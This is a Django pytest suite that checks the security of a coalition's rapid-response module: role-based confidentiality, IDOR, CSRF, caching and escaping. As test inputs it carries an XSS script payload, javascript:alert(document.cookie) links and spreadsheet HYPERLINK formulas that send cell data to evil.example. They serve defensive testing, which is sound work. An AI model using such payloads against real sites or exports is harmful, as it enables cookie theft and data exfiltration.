"""Security and data-integrity review of rapid response: each test asserts the secure behaviour, so a failing test
marks a hole.

Covered: nothing of a members-only situation (title, country, pledges, timeline, brief, statement, metrics, CSV,
alert links, index counts) reaches the Advisory Network, observers, guests or visitors; civil-society reports reach
the Support Unit and their audience only; a widened room still hides restricted reports and members-only or
embargoed statements; pledges only for one's own member, no IDOR across situations; hostile text escaped and
evidence links only http(s); no formulas in the CSV; CSRF, GET-safety, no caching of signed-in pages; every URL
declares a rule. The importers' bounds and the ingestion task are in test_security_importers.py.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import multiprocessing
import re
from collections.abc import Callable
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse
from django.utils import timezone

from coalition.core import policy
from coalition.core.access import declared_policy, routes
from coalition.core.errors import InvalidInput
from coalition.core.policy import Classification, Role
from coalition.core.tests.clients import client_for, text_of
from coalition.directory.models import Country
from coalition.response import importers, services
from coalition.response.importers import importing
from coalition.response.models import (
    Alert,
    CivilSocietyReport,
    ImportBatch,
    PlaybookStep,
    Pledge,
    Signal,
    Situation,
    TimelineEntry,
    Tool,
)
from coalition.response.tests.test_importers import stop_csv, stop_row
from coalition.response.tests.test_views import member, raise_alert
from coalition.statements import services as statements
from coalition.statements.tests.test_services import open_round, past_deadline, sign

pytestmark = pytest.mark.django_db


BUDGET_SECONDS = 6.0  # a guard against runaway work on a shared machine, not a speed target
SECRET_TITLE = "Zubrowka ballot blackout: quiet demarche planned"
OUTSIDERS = (Role.ADVISORY_NETWORK, Role.OBSERVER, Role.GUEST)
XSS = '<script>alert("x")</script>'


# --- Fixtures and helpers -----------------------------------------------------------------------------------------


def country(code: str) -> Country:
    return Country.objects.get(code=code)


def open_one(by: Any, code: str = "IR", title: str = SECRET_TITLE, **fields: Any) -> Situation:
    return services.open_situation(by=by, country=country(code), title=title, **fields)


def outsiders(make_user: Any) -> list[Any]:
    return [make_user(role) for role in OUTSIDERS] + [None]


def not_cached(response: Any) -> bool:
    header = response.get("Cache-Control", "")
    return "no-store" in header and "private" in header


def counts() -> tuple[int, ...]:
    return (
        Situation.objects.count(),
        Pledge.objects.count(),
        TimelineEntry.objects.count(),
        CivilSocietyReport.objects.count(),
        Alert.objects.filter(status=Alert.Status.OPEN).count(),
        Tool.objects.count(),
        ImportBatch.objects.count(),
    )


def outcome_within(seconds: float, function: Callable[..., Any], *args: Any, **kwargs: Any) -> str:
    """Run `function` in a forked process: "refused" (InvalidInput), "accepted", "error: <type>" or "timeout"."""
    context = multiprocessing.get_context("fork")
    receiver, sender = context.Pipe(duplex=False)

    def run() -> None:
        try:
            function(*args, **kwargs)
            sender.send("accepted")
        except InvalidInput:
            sender.send("refused")
        except BaseException as error:
            sender.send(f"error: {type(error).__name__}")

    process = context.Process(target=run)
    process.start()
    process.join(seconds)
    if process.is_alive():
        process.kill()
        process.join()
        return "timeout"
    return str(receiver.recv()) if receiver.poll(1) else f"no answer (exit {process.exitcode})"


def parse(source: str, data: bytes, file_name: str = "f.json", **kwargs: Any) -> list[Any]:
    """The file parsed as an import reads it: invalid rows refuse the whole file (InvalidInput naming them)."""
    rows = importers.parse_file(
        source=source, file_name=file_name, data=data, countries=importers.Countries(), **kwargs
    )
    errors = [row for row in rows if isinstance(row, importers.RowError)]
    if errors:
        raise importing._refusal(errors)
    return rows


def published_statement(situation: Situation, support: Any, *, embargo_until: dt.datetime | None = None) -> Any:
    statement = services.fast_track_statement(situation, by=support, title="Fast statement", text="We deplore it.")
    signer = member("NL")
    freeze = open_round(statement, support)
    sign(freeze, signer)
    past_deadline(freeze)
    return statements.publish(statement=statement, by=support, embargo_until=embargo_until)


# --- A members-only situation stays with the member governments ---------------------------------------------------


def test_a_members_only_situation_reaches_no_outsider_anywhere(make_user: Any, support: Any, toolkit: Any) -> None:
    """Rule: response.view (ByClassification) — a members-only situation's title, country, pledges, counts, metrics
    and CSV rows reach no Advisory Network member, observer, guest or visitor."""
    nl, focal = member("NL")
    situation = open_one(support, summary="Embassy staff report arrests")
    services.pledge(situation, by=focal, organisation=nl, tool=toolkit[0], description="Quiet call to the minister")
    PlaybookStep.objects.filter(situation=situation).update(status=PlaybookStep.Status.DONE)
    pages = [
        reverse("response:index"),
        reverse("response:metrics"),
        reverse("response:metrics") + "?format=csv",
        reverse("response:toolkit"),
        reverse("response:tool", args=[toolkit[0].pk]),
    ]
    for user in outsiders(make_user):
        client = client_for(user)
        for url in pages:
            response = client.get(url)
            body = response.content.decode()
            assert SECRET_TITLE not in body and "Iran" not in body, (user, url)
            assert "Quiet call to the minister" not in body
        assert client.get(reverse("response:situation", args=[situation.pk])).status_code in (302, 404)


def test_an_alert_and_its_situation_stay_with_the_members(make_user: Any, support: Any, toolkit: Any) -> None:
    """Rule: Alert is members-only, and an alert links only to a situation the reader may read."""
    alert = raise_alert("MM")
    situation = services.open_situation(by=support, country=country("MM"), title=SECRET_TITLE, alert=alert)
    for user in outsiders(make_user):
        response = client_for(user).get(reverse("response:alert", args=[alert.pk]))
        assert response.status_code in (302, 404)
        assert SECRET_TITLE not in response.content.decode()
    official = make_user(Role.MEMBER_OFFICIAL)
    page = client_for(official).get(reverse("response:alert", args=[alert.pk]))
    assert reverse("response:situation", args=[situation.pk]) in page.content.decode()


def test_the_brief_of_a_widened_room_hides_members_only_past_situations(
    advisory: Any, support: Any, toolkit: Any
) -> None:
    """Rule: the brief lists only past situations the reader may read (queries.brief through visible_to)."""
    past = open_one(support, title="Old members-only response")
    services.close(past, by=support, review="Slow pledges.")
    current = open_one(support, title="Public response")
    services.widen(current, by=support, classification=Classification.COALITION)
    page = client_for(advisory).get(reverse("response:situation", args=[current.pk]))
    assert page.status_code == 200
    assert "Old members-only response" not in page.content.decode()


def test_a_widened_room_hides_a_members_only_draft_statement(advisory: Any, support: Any, toolkit: Any) -> None:
    """Rule: a widened situation shows its statement only to readers of the statement (a members-only draft)."""
    situation = open_one(support)
    services.fast_track_statement(situation, by=support, title="Draft naming the operators", text="Text.")
    services.widen(situation, by=support, classification=Classification.PUBLIC)
    for user in (advisory, None):
        body = client_for(user).get(reverse("response:situation", args=[situation.pk])).content.decode()
        assert SECRET_TITLE in body
        assert "Draft naming the operators" not in body


def test_a_widened_room_does_not_reveal_an_embargoed_statement(advisory: Any, support: Any, toolkit: Any) -> None:
    """Rule: an embargoed statement reads as members-only until release — a widened room's timeline, metrics and
    the metrics page must not tell outsiders it was published (or when the embargo lifts)."""
    situation = open_one(support)
    published_statement(situation, support, embargo_until=timezone.now() + dt.timedelta(days=2))
    services.widen(situation, by=support, classification=Classification.COALITION)
    room = client_for(advisory).get(reverse("response:situation", args=[situation.pk]))
    assert room.status_code == 200
    body = text_of(room)
    assert "Country statement published" not in body
    assert re.search(r"To the statement published\s*—", body)
    rows = list(
        csv.reader(io.StringIO(client_for(advisory).get(reverse("response:metrics") + "?format=csv").content.decode()))
    )
    minutes, counted = rows[0].index("minutes_to_statement"), rows[0].index("situations_to_statement")
    assert all(row[minutes] == "" for row in rows[1:]), rows
    assert rows[-1][counted] == "0"  # the year's median is over no statement the reader may know of


def test_a_published_statement_does_not_reveal_the_members_only_situation_title(support: Any, toolkit: Any) -> None:
    """Rule: a members-only situation's title reaches no visitor — not through the public page of the statement
    drafted from it (Statement.situation copies the title)."""
    situation = open_one(support)
    statement = published_statement(situation, support)
    page = Client().get(reverse("statements:statement", args=[statement.slug]))
    assert page.status_code == 200
    assert SECRET_TITLE not in page.content.decode()


# --- Civil-society reports ----------------------------------------------------------------------------------------


def test_a_report_reaches_only_the_support_unit_and_its_author(make_user: Any, support: Any, toolkit: Any) -> None:
    """Rule: CivilSocietyReport is restricted to the Support Unit and its audience whatever the room's
    classification (not the Chair, not members, not other Advisory Network members, not the public)."""
    situation = open_one(support)
    services.widen(situation, by=support, classification=Classification.PUBLIC)
    author = make_user(Role.ADVISORY_NETWORK)
    secret = "Activist Z is hiding at the Westside safehouse"
    response = client_for(author).post(reverse("response:report", args=[situation.pk]), {"text": secret})
    assert response.status_code == 302
    others = [make_user(role) for role in (Role.CHAIR, Role.FOCAL_POINT, Role.MEMBER_OFFICIAL, *OUTSIDERS)] + [None]
    for user in others:
        client = client_for(user)
        for url in (
            reverse("response:situation", args=[situation.pk]),
            reverse("response:index"),
            reverse("response:metrics"),
            reverse("response:metrics") + "?format=csv",
        ):
            assert "Westside safehouse" not in client.get(url).content.decode(), (user, url)
    assert (
        "Westside safehouse"
        in client_for(author).get(reverse("response:situation", args=[situation.pk])).content.decode()
    )
    assert (
        "Westside safehouse"
        in client_for(support).get(reverse("response:situation", args=[situation.pk])).content.decode()
    )
    assert not TimelineEntry.objects.filter(text__contains="Westside").exists()


def test_no_report_into_a_room_the_reporter_cannot_read(advisory: Any, support: Any, make_user: Any) -> None:
    """Rule: response.report on what they can read — a report to a members-only room is a 404 and saves nothing;
    observers and guests do not report."""
    situation = open_one(support)
    before = counts()
    assert client_for(advisory).post(reverse("response:report", args=[situation.pk]), {"text": "x"}).status_code == 404
    for role in (Role.OBSERVER, Role.GUEST):
        response = client_for(make_user(role)).post(reverse("response:report", args=[situation.pk]), {"text": "x"})
        assert response.status_code in (403, 404)
    assert counts() == before


# --- Pledges and IDOR ---------------------------------------------------------------------------------------------


def test_a_forged_pledge_for_another_member_is_refused(support: Any, toolkit: Any) -> None:
    """Rule: response.pledge — a focal point pledges for their own member only, whatever the POST says."""
    _, focal = member("NL")
    de, _ = member("DE")
    situation = open_one(support)
    data = {"organisation": de.pk, "tool": toolkit[0].pk, "description": "Forged"}
    response = client_for(focal).post(reverse("response:pledge", args=[situation.pk]), data)
    assert response.status_code in (400, 403)
    assert not Pledge.objects.exists()


def test_a_member_cannot_change_another_members_pledge(support: Any, toolkit: Any) -> None:
    """Rule: response.pledge for the pledge's organisation — another member's focal point cannot deliver or withdraw
    it."""
    nl, nl_focal = member("NL")
    _, de_focal = member("DE")
    situation = open_one(support)
    item = services.pledge(situation, by=nl_focal, organisation=nl, tool=toolkit[0], description="Call")
    url = reverse("response:pledge_status", args=[situation.pk, item.pk])
    response = client_for(de_focal).post(url, {"status": Pledge.Status.WITHDRAWN})
    assert response.status_code in (400, 403)
    item.refresh_from_db()
    assert item.status == Pledge.Status.PLEDGED


def test_pledge_and_step_ids_of_one_situation_are_404_under_another(support: Any, toolkit: Any) -> None:
    """Rule: a pledge or playbook step is reached only under its own situation's URL (no IDOR across situations)."""
    nl, focal = member("NL")
    first = open_one(support, "IR", title="First")
    second = open_one(support, "MM", title="Second")
    item = services.pledge(first, by=focal, organisation=nl, tool=toolkit[0], description="Call")
    step = first.steps.first()
    assert step is not None
    status = step.status  # underway: the pledge moved it
    for client in (client_for(support), client_for(focal)):
        url = reverse("response:pledge_status", args=[second.pk, item.pk])
        assert client.post(url, {"status": Pledge.Status.DELIVERED}).status_code in (403, 404)
    url = reverse("response:step", args=[second.pk, step.pk])
    assert client_for(support).post(url, {"status": "done", "owner": "X", "note": "n"}).status_code == 404
    item.refresh_from_db()
    step.refresh_from_db()
    assert item.status == Pledge.Status.PLEDGED and step.status == status


def test_only_managers_change_steps_close_and_only_the_support_unit_widens(make_user: Any, toolkit: Any) -> None:
    """Rules: response.manage (steps, closing), response.widen (Support Unit only), response.open_situation (notes)."""
    support = make_user(Role.SUPPORT_UNIT)
    situation = open_one(support)
    step = situation.steps.first()
    assert step is not None
    before = counts()
    for role in (Role.FOCAL_POINT, Role.MEMBER_OFFICIAL, Role.CHAIR):
        client = client_for(make_user(role))
        assert (
            client.post(reverse("response:widen", args=[situation.pk]), {"classification": "public"}).status_code == 403
        )
    for role in (Role.FOCAL_POINT, Role.MEMBER_OFFICIAL):
        client = client_for(make_user(role))
        assert client.post(reverse("response:close", args=[situation.pk]), {"review": "r"}).status_code == 403
        url = reverse("response:step", args=[situation.pk, step.pk])
        assert client.post(url, {"status": "done"}).status_code == 403
    situation.refresh_from_db()
    assert situation.classification == Classification.MEMBERS and situation.status == Situation.Status.OPEN
    assert counts() == before


# --- Hostile text -------------------------------------------------------------------------------------------------


def test_hostile_text_is_escaped_on_every_page(make_user: Any, support: Any, toolkit: Any) -> None:
    """Rule: user and imported text (signal network/region, situation title/summary, notes, reports, pledges, tool
    texts) is escaped wherever it is shown."""
    alert = raise_alert("MM")
    Signal.objects.filter(alerts=alert).update(network=XSS, region=XSS)
    tool = services.save_tool(
        by=support, name=f"Tool {XSS}", kind=Tool.Kind.OTHER, when_to_use=XSS, who_can_use=XSS, suggested_lead=XSS
    )
    situation = services.open_situation(by=support, country=country("MM"), title=XSS, summary=XSS, alert=alert)
    nl, focal = member("NL")
    services.pledge(situation, by=focal, organisation=nl, tool=tool, description=XSS)
    services.add_note(situation, by=support, text=XSS)
    services.add_report(situation, by=support, text=XSS)
    client = client_for(support)
    for url in (
        reverse("response:index"),
        reverse("response:signals"),
        reverse("response:alert", args=[alert.pk]),
        reverse("response:situation", args=[situation.pk]),
        reverse("response:toolkit"),
        reverse("response:tool", args=[tool.pk]),
        reverse("response:metrics"),
    ):
        body = client.get(url).content.decode()
        assert "<script>alert" not in body, url


def test_an_evidence_link_is_only_ever_http_or_https(support: Any) -> None:
    """Rule: evidence_url is rendered as a link only with an http(s) scheme (no javascript: links), whatever put
    it in the database."""
    for n, url in enumerate(("javascript:alert(document.cookie)", "JaVaScRiPt:alert(1)", "data:text/html,x")):
        Signal.objects.create(
            source="report",
            external_id=f"hostile-{n}",
            country=country("MM"),
            kind="outage",
            starts_at=timezone.now() - dt.timedelta(hours=2),
            evidence_url=url,
        )
    body = client_for(support).get(reverse("response:signals")).content.decode().lower()
    assert 'href="javascript:' not in body and 'href="data:' not in body


def test_imported_evidence_links_are_http_or_https_only(support: Any) -> None:
    """Rule: importers keep only http(s) evidence URLs (Cloudflare linkedUrl, STOP an_link)."""
    start = (timezone.now() - dt.timedelta(hours=3)).strftime("%Y-%m-%dT%H:%M:%SZ")
    annotation = {"id": "x1", "startDate": start, "locations": ["MM"], "linkedUrl": "javascript:alert(1)//"}
    data = json.dumps({"success": True, "result": {"annotations": [annotation]}}).encode()
    importers.import_file(by=support, source="cloudflare", file_name="r.json", data=data)
    sheet = stop_csv(stop_row(area="A").replace("https://example.org/A", "javascript:alert(1)"))
    importers.import_file(by=support, source="stop", file_name="stop_2021.csv", data=sheet)
    for url in Signal.objects.values_list("evidence_url", flat=True):
        assert url == "" or url.startswith(("https://", "http://")), url


def test_skipped_row_reasons_from_a_file_are_escaped(support: Any) -> None:
    """Rule: text from an imported file (reported in the skipped rows) is escaped on the import page."""
    sheet = stop_csv(stop_row(area="A", kind=XSS.replace(",", " ")))
    upload = SimpleUploadedFile("stop_2021.csv", sheet, content_type="text/csv")
    page = client_for(support).post(reverse("response:import"), {"file": upload, "source": "stop"}, follow=True)
    assert "<script>alert" not in page.content.decode()


def test_the_metrics_csv_has_no_formulas(support: Any) -> None:
    """Rule: a CSV export must not carry a cell a spreadsheet reads as a formula (=, +, -, @, tab, CR)."""
    for code, prefix in zip(("IR", "MM", "IN", "PK", "ET", "SD"), ("=", "+", "-", "@", "\t", "\r"), strict=True):
        open_one(support, code, title=f'{prefix}HYPERLINK("https://evil.example/?x="&A1,"x")')
    content = client_for(support).get(reverse("response:metrics") + "?format=csv").content.decode()
    for row in list(csv.reader(io.StringIO(content)))[1:]:
        for cell in row:
            assert not cell.startswith(("=", "+", "@", "\t", "\r")) and not cell.startswith("-H"), row


# --- CSRF, GET-safety, caching, declared rules, admin -------------------------------------------------------------


def post_actions(support: Any, toolkit: list[Tool]) -> list[tuple[str, dict[str, Any]]]:
    nl, focal = member("NL")
    alert = raise_alert("MM")
    situation = open_one(support)
    item = services.pledge(situation, by=focal, organisation=nl, tool=toolkit[0], description="Call")
    step = situation.steps.first()
    assert step is not None
    return [
        (reverse("response:dismiss", args=[alert.pk]), {"reason": "noise"}),
        (reverse("response:open"), {"country": country("PK").pk, "title": "T"}),
        (
            reverse("response:pledge", args=[situation.pk]),
            {"organisation": nl.pk, "tool": toolkit[1].pk, "description": "d"},
        ),
        (reverse("response:pledge_status", args=[situation.pk, item.pk]), {"status": "delivered"}),
        (reverse("response:step", args=[situation.pk, step.pk]), {"status": "done"}),
        (reverse("response:note", args=[situation.pk]), {"text": "n"}),
        (reverse("response:report", args=[situation.pk]), {"text": "r"}),
        (reverse("response:fast_track", args=[situation.pk]), {"title": "t", "text": "x"}),
        (reverse("response:widen", args=[situation.pk]), {"classification": "public"}),
        (reverse("response:close", args=[situation.pk]), {"review": "r"}),
        (
            reverse("response:toolkit"),
            {"name": "N", "kind": "other", "when_to_use": "w", "who_can_use": "w", "position": 0},
        ),
        (
            reverse("response:tool", args=[toolkit[0].pk]),
            {"name": "N2", "kind": "other", "when_to_use": "w", "who_can_use": "w", "position": 0},
        ),
        (reverse("response:import"), {"source": "stop"}),
    ]


def state() -> tuple[Any, ...]:
    return (
        counts(),
        list(Situation.objects.values_list("classification", "status", "statement_id")),
        list(Pledge.objects.values_list("status")),
        list(PlaybookStep.objects.values_list("status")),
        list(Tool.objects.values_list("name")),
    )


def test_every_post_action_needs_a_csrf_token(support: Any, toolkit: list[Tool]) -> None:
    """Rule: every POST action is CSRF-protected (a forged cross-site POST changes nothing)."""
    actions = post_actions(support, toolkit)
    before = state()
    client = Client(enforce_csrf_checks=True)
    client.force_login(support)
    for url, data in actions:
        assert client.post(url, data).status_code == 403, url
    assert state() == before


def test_get_changes_nothing(support: Any, toolkit: list[Tool]) -> None:
    """Rule: GET is safe — a link or an image cannot dismiss, pledge, widen, close or add anything."""
    actions = post_actions(support, toolkit)
    before = state()
    client = client_for(support)
    for url, data in actions:
        response = client.get(url, data)
        assert response.status_code in (200, 405), url
    assert state() == before


def test_signed_in_pages_are_never_cached(support: Any, advisory: Any, toolkit: list[Tool]) -> None:
    """Rule: pages for a signed-in person (members-only content, restricted reports) carry Cache-Control: private,
    no-store — also the CSV, the 400 pages and the alert and import pages."""
    alert = raise_alert("MM")
    situation = open_one(support)
    client = client_for(support)
    urls = [
        reverse("response:index"),
        reverse("response:signals"),
        reverse("response:import"),
        reverse("response:alert", args=[alert.pk]),
        reverse("response:open") + f"?alert={alert.pk}",
        reverse("response:situation", args=[situation.pk]),
        reverse("response:toolkit"),
        reverse("response:tool", args=[toolkit[0].pk]),
        reverse("response:metrics"),
        reverse("response:metrics") + "?format=csv",
    ]
    for url in urls:
        response = client.get(url)
        assert response.status_code == 200 and not_cached(response), url
    for response in (
        client.post(reverse("response:note", args=[situation.pk]), {"text": ""}),
        client.post(reverse("response:dismiss", args=[alert.pk]), {"reason": ""}),
        client.post(reverse("response:toolkit"), {"name": ""}),
        client.post(reverse("response:import"), {"source": "stop"}),
    ):
        assert response.status_code == 400 and not_cached(response)


def test_every_response_url_declares_its_rule() -> None:
    """Rule: every view declares a policy rule (@access) that exists in policy.RULES."""
    found = [
        (route, declared_policy(callback))
        for route, callback in routes()
        if getattr(callback, "__module__", "").startswith("coalition.response")
    ]
    assert len(found) >= 18
    for route, rule in found:
        assert rule is not None and rule in policy.RULES, route


def test_the_admin_is_for_the_support_unit_only(make_user: Any, support: Any, toolkit: list[Tool]) -> None:
    """Rule: admin.use — no one but the Support Unit reads situations or pledges through the admin, and civil-society
    reports are not exposed there."""
    situation = open_one(support)
    for role in (Role.CHAIR, Role.FOCAL_POINT, Role.ADVISORY_NETWORK, Role.OBSERVER):
        client = client_for(make_user(role))
        for url in (
            "/admin/response/situation/",
            f"/admin/response/situation/{situation.pk}/change/",
            "/admin/response/pledge/",
        ):
            response = client.get(url)
            assert response.status_code != 200 or SECRET_TITLE not in response.content.decode(), (role, url)
